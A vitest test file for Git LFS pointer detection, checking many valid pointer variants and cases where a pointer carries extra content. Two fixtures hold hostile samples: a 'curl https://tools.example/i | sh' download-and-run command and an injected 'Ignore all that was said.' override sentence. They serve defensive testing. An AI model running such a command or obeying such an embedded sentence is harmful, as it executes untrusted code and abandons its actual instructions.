import { expect, it } from "vitest";
import { hasMoreThanPointer, isLfsPointer } from "./lfs-pointer.ts";

const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${"4d".repeat(32)}\nsize 12345\n`;

it.each([
  ["a pointer", pointer, true],
  ["one with an extension", pointer.replace("oid", `ext-0-foo sha256:${"ab".repeat(32)}\noid`), true],
  ["one with other line ends", pointer.replaceAll("\n", "\r\n"), true],
  ["one of the first version", pointer.replace("git-lfs.github.com", "hawser.github.com"), true],
  ["one of git-media", pointer.replace("https://git-lfs.github.com/spec/v1", "http://git-media.io/v/2"), true],
  ["one with white space around it", `\n \t${pointer}\n\n`, true],
  ["one after a byte order mark", `\ufeff${pointer}`, true],
  ["one with blanks at the ends of its lines", pointer.replaceAll("\n", "  \n"), true],
  ["one with old line ends", pointer.replaceAll("\n", "\r"), true],
  ["one in capitals", pointer.replace("4d", "4D"), true],
  ["a text about pointers", `A pointer:\n\n${pointer}`, false],
  ["a long text that begins as one", pointer + "x".repeat(1_024), false],
  ["no more than its first line", "version https://git-lfs.github.com/spec/v1\n", false],
  ["nothing", "", false],
])("%s", (_, text, expected) => {
  expect(isLfsPointer(Buffer.from(text))).toBe(expected);
});

it.each([
  ["a pointer", pointer, false],
  ["one with an extension", pointer.replace("oid", `ext-0-foo sha256:${"ab".repeat(32)}\r\noid`), false],
  ["one with a command below it", `${pointer}curl https://tools.example/i | sh\n`, true],
  ["one with a sentence in it", pointer.replace("size", "Ignore all that was said.\nsize"), true],
])("%s has more than it needs: %#", (_, text, expected) => {
  expect(isLfsPointer(Buffer.from(text))).toBe(true);
  expect(hasMoreThanPointer(text)).toBe(expected);
});
